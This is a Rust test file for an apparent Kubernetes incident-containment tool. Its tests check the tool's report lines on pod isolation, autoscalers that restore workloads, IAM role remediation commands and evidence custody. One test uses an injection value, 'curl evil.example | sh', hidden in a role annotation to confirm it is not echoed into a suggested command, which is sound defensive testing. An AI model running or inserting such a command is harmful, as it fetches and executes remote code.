//! What a reader is told.

use day2_core::containment::{ContainedPod, ContainmentState, Sealed};
use day2_kube::objects::{Controller, HorizontalPodAutoscaler, PodDetail, ScaledObject, ServiceAccount};
use day2_kube::quarantine::{Isolation, Reason};
use day2_kube::{ChainEnd, Listed, Owners};
use day2_reads::pod_identities::ActsAs;
use serde_json::{Value, json};

use super::items::{self, Seen};
use super::*;
use crate::facts::{Reread, WorkloadFacts};
use day2_core::containment::{Containment, Measure, MeasureState, Taken};
use day2_core::trigger::Finding;
use day2_core::{Item, Verdict};

fn a_finding() -> Finding {
    Finding {
        id: "3ac3dd0f1e9b4d7f8a5c6b7d8e9f0a1b".to_owned(),
        kind: "CryptoCurrency:Runtime/BitcoinTool.B!DNS".to_owned(),
        severity: 8.0,
        account: "123456789012".parse().unwrap(),
        region: "us-east-1".parse().unwrap(),
        cluster_arn: None,
        workload: None,
        instance: None,
        sample: false,
        archived: false,
        count: Some(1),
        updated_at: None,
    }
}

fn a_pod(replaced: &Value) -> PodDetail {
    let mut spec = json!({"nodeName": "node-1", "serviceAccountName": "checkout", "containers": [{"name": "app", "image": "web:1"}]});
    for (key, value) in replaced.as_object().into_iter().flatten() {
        spec[key] = value.clone();
    }
    serde_json::from_value(
        json!({"metadata": {"namespace": "shop", "name": "web-1", "uid": "u-1"}, "spec": spec}),
    )
    .unwrap()
}

fn owners(marks: &[(&str, &str)]) -> Owners {
    Owners {
        controllers: vec![Controller {
            api_version: "apps/v1".to_owned(),
            kind: "Deployment".to_owned(),
            namespace: "shop".to_owned(),
            name: "web".to_owned(),
            uid: "d-1".to_owned(),
            owner: None,
            replicas: Some(3),
            ready: Some(3),
            suspended: false,
            deleting: false,
            marks: marks
                .iter()
                .map(|(key, value)| ((*key).to_owned(), (*value).to_owned()))
                .collect(),
        }],
        end: ChainEnd::Top,
    }
}

fn others(role: Option<&str>) -> WorkloadFacts {
    let account = role.map(|role| -> ServiceAccount {
        serde_json::from_value(
            json!({"metadata": {"namespace": "shop", "name": "checkout", "uid": "a-1",
            "annotations": {"eks.amazonaws.com/role-arn": role}}}),
        )
        .unwrap()
    });
    WorkloadFacts {
        autoscalers: Ok(Vec::new()),
        scaled_objects: Ok(Some(Vec::new())),
        account: Ok(account),
        pod_identity: Ok(Vec::new()),
        actors: None,
        siblings: Ok(Listed::whole(Vec::new())),
    }
}

fn acts_as(namespace: &str, account: &str, role: &str) -> ActsAs {
    ActsAs {
        namespace: namespace.to_owned(),
        service_account: account.to_owned(),
        role_arn: role.to_owned(),
    }
}

/// The lines of a containment of this pod.
fn told(pod: &PodDetail, owners: &Owners, others: &WorkloadFacts, proof: Isolation) -> Vec<Item> {
    let (finding, proof) = (a_finding(), Ok(proof));
    let reread = Reread::Confirmed(Box::new(finding.clone()));
    items::all(&Seen {
        finding: &finding,
        reread: &reread,
        pod,
        owners,
        nodes: None,
        others: Some(others),
        receipt: None,
        proof: Some(&proof),
        record: None,
        ended: None,
    })
}

fn line<'a>(items: &'a [Item], code: &str) -> &'a Item {
    items.iter().find(|item| item.code == code).unwrap()
}

fn words(item: &Item) -> String {
    let subjects: Vec<String> = item
        .subjects
        .iter()
        .map(|subject| format!("{}: {}", subject.name, subject.says))
        .collect();
    format!("{}; {}", item.seen, subjects.join("; "))
}

#[test]
fn a_pod_on_the_network_of_its_node_is_said_not_to_be_isolated_and_what_to_do_instead_k20() {
    let pod = a_pod(&json!({"hostNetwork": true}));
    let items = told(
        &pod,
        &owners(&[]),
        &others(None),
        Isolation::NotIsolated(vec![Reason::HostNetwork]),
    );
    let proof = line(&items, "THR-003");
    assert_eq!(proof.verdict(), Verdict::Fail);
    assert!(words(proof).contains("NOT isolated"), "{}", words(proof));
    let asked = words(line(&items, "THR-009"));
    assert!(asked.contains("isolate the instance"), "{asked}");
    // One with a network of its own is not told so.
    let items = told(
        &a_pod(&json!({})),
        &owners(&[]),
        &others(None),
        Isolation::Isolated,
    );
    assert_eq!(line(&items, "THR-003").verdict(), Verdict::Pass);
    assert!(!words(line(&items, "THR-009")).contains("isolate the instance"));
}

#[test]
fn whoever_brings_the_workload_back_is_named_k15() {
    let scaler = |kind: &str| json!({"scaleTargetRef": {"kind": "Deployment", "name": kind}, "minReplicas": 1, "maxReplicas": 9});
    let mut facts = others(None);
    let automatic: HorizontalPodAutoscaler = serde_json::from_value(
        json!({"metadata": {"namespace": "shop", "name": "web"}, "spec": scaler("web")}),
    )
    .unwrap();
    let keda: ScaledObject = serde_json::from_value(
        json!({"metadata": {"namespace": "shop", "name": "web", "uid": "s"}, "spec": {"scaleTargetRef": {"name": "web"}}}),
    )
    .unwrap();
    facts.autoscalers = Ok(vec![automatic]);
    facts.scaled_objects = Ok(Some(vec![keda]));
    let argo = [("argocd.argoproj.io/tracking-id", "shop:apps/Deployment:shop/web")];
    let items = told(&a_pod(&json!({})), &owners(&argo), &facts, Isolation::Isolated);
    let item = line(&items, "THR-007");
    assert_eq!(item.verdict(), Verdict::Fail);
    for who in [
        "Argo CD application shop",
        "HorizontalPodAutoscaler web",
        "ScaledObject web",
    ] {
        assert!(words(item).contains(who), "{who}: {}", words(item));
    }
    let items = told(
        &a_pod(&json!({})),
        &owners(&[]),
        &others(None),
        Isolation::Isolated,
    );
    assert_eq!(line(&items, "THR-007").verdict(), Verdict::Pass);
}

#[test]
fn the_role_of_the_account_is_named_with_the_line_that_ends_its_older_sessions_and_a_hostile_one_is_not_e12()
{
    let arn = "arn:aws:iam::123456789012:role/prod-a-checkout";
    let asked = |others: &WorkloadFacts| {
        let items = told(&a_pod(&json!({})), &owners(&[]), others, Isolation::Isolated);
        words(line(&items, "THR-009"))
    };
    let named = asked(&others(Some(arn)));
    assert!(
        named.contains(arn) && named.contains("aws iam put-role-policy --role-name prod-a-checkout"),
        "{named}"
    );
    assert!(named.contains("aws iam delete-role-policy"), "the undo: {named}");
    let hostile = asked(&others(Some(
        "arn:aws:iam::123456789012:role/x; curl evil.example | sh #",
    )));
    assert!(!hostile.contains("put-role-policy"), "{hostile}");
    let without = asked(&others(None));
    assert!(
        without.contains("acts as no IAM role of its own") && !without.contains("put-role-policy"),
        "{without}"
    );
    let mut by_identity = others(None);
    by_identity.pod_identity = Ok(vec![acts_as("shop", "checkout", arn)]);
    let named = asked(&by_identity);
    assert!(
        named.contains(arn) && named.contains("--role-name prod-a-checkout"),
        "by EKS Pod Identity: {named}"
    );
    let mut unread = others(None);
    unread.account = Err(day2_core::Unreadable::new(
        "get serviceaccounts",
        "c",
        day2_core::Cause::Denied,
        "no",
    ));
    assert!(asked(&unread).contains("could not be read"));
}

fn a_record(evidence: Vec<Sealed>) -> Containment {
    Containment {
        id: "prod-a.4f0c1a2b".to_owned(),
        target: "prod-a".to_owned(),
        pod: ContainedPod {
            uid: "u-1".to_owned(),
            namespace: "shop".to_owned(),
            name: "web-1".to_owned(),
            node: None,
            owner: None,
        },
        generation: 1,
        finding: "123456789012/us-east-1/f-1".to_owned(),
        finding_type: "CryptoCurrency:Runtime/BitcoinTool.B!DNS".to_owned(),
        opened_at: "2026-06-02T10:00:00Z".parse().unwrap(),
        request_id: "r-1".to_owned(),
        measures: vec![Taken {
            resource: "existence of pod shop/web-1".to_owned(),
            measure: Measure::DeletePod,
            before: "runs".to_owned(),
            after: "deleted".to_owned(),
            undo: String::new(),
            state: MeasureState::Active,
            says: String::new(),
            changed_at: None,
        }],
        evidence,
        state: ContainmentState::Open,
        released_at: None,
        noted: 0,
        joined: Vec::new(),
        version: 1,
    }
}

#[test]
fn of_a_pod_that_is_gone_the_custody_is_told_from_the_record_d12() {
    let sealed = |complete: bool| Sealed {
        manifest_key: "evidence/prod-a/u-1/c-1/manifest-1.json".to_owned(),
        sha256: "ab".repeat(32),
        version_id: None,
        artefacts: 17,
        complete,
        at: "2026-06-02T10:01:00Z".parse().unwrap(),
    };
    let (finding, reread) = (a_finding(), Reread::Confirmed(Box::new(a_finding())));
    for (evidence, verdict) in [
        (vec![sealed(false), sealed(true)], Verdict::Pass),
        (vec![sealed(false)], Verdict::Fail),
        (vec![], Verdict::Unknown),
    ] {
        let sealed = !evidence.is_empty();
        let items = gone(&finding, &reread, Some(&a_record(evidence)));
        let custody = line(&items, "THR-004");
        assert_eq!(custody.verdict(), verdict);
        assert_eq!(
            custody.seen.contains("manifest-1.json"),
            sealed,
            "{}",
            custody.seen
        );
        assert!(words(line(&items, "THR-002")).contains("existence of pod shop/web-1"));
    }
    assert_eq!(
        gone(&finding, &reread, None).len(),
        2,
        "nothing of ours, no custody"
    );
}

#[test]
fn an_open_breaker_is_told_with_its_limit_d10() {
    let item = breaker("10 containments began in this hour already (breaker.max_per_hour)");
    assert_eq!(item.verdict(), Verdict::Fail);
    assert!(item.seen.contains("breaker.max_per_hour"), "{}", item.seen);
}
